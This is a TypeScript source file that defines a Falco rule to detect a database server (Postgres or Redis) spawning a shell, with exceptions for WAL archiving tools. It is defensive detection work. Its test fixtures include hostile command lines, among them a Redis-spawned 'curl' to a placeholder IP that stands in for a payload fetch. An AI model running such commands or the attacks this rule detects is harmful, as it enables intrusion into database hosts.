import { images, started } from "./events";
import { workload, type FalcoRule } from "./rule";

/** COPY … FROM PROGRAM, a loaded module, a user-defined function: SQL that became a command. */
export const databaseServerShell: FalcoRule = {
  id: "database-server-shell",
  title: "Database server runs a shell",
  description:
    "A database server itself started a shell. Only archiving and restoring do so, and they name their tool.",
  source: "syscall",
  maturity: "incubating",
  priority: "CRITICAL",
  attack: { tactic: "initial_access", technique: "T1190" },
  shows: ["proc.name", "proc.pname", "user.uid", ...workload],
  lists: ["palisade_shells", "palisade_database_servers"],
  macros: ["palisade_started", "palisade_in_container"],
  condition:
    "palisade_started and palisade_in_container and proc.name in (palisade_shells) and proc.pname in (palisade_database_servers)",
  exceptions: [
    {
      // archive_command and restore_command.
      name: "archiving",
      fields: ["proc.pname", "proc.cmdline"],
      comps: ["in", "contains"],
      values: [
        [["postgres", "postmaster"], "wal-g wal-"],
        [["postgres", "postmaster"], "pgbackrest "],
        [["postgres", "postmaster"], "barman-cloud-wal-"],
        [["postgres", "postmaster"], "envdir "],
        [["postgres", "postmaster"], "/bin/true"],
        [["postgres", "postmaster"], "test ! -f "],
      ],
    },
  ],
  examples: {
    fires: {
      "COPY FROM PROGRAM": started("sh", images.postgres, {
        "proc.pname": "postgres",
        "proc.cmdline": "sh -c id",
      }),
      "a module loaded into Redis": started("sh", images.redis, {
        "proc.pname": "redis-server",
        "proc.cmdline": "sh -c curl http://203.0.113.9/a",
      }),
    },
    quiet: {
      "Postgres archives a segment": started("sh", images.postgres, {
        "proc.pname": "postgres",
        "proc.cmdline": "sh -c wal-g wal-push pg_wal/000000010000000000000001",
      }),
      "the entry point starts a shell": started("bash", images.postgres, {
        "proc.pname": "docker-entrypoi",
        "proc.cmdline": "bash /docker-entrypoint-initdb.d/init.sh",
      }),
    },
  },
};
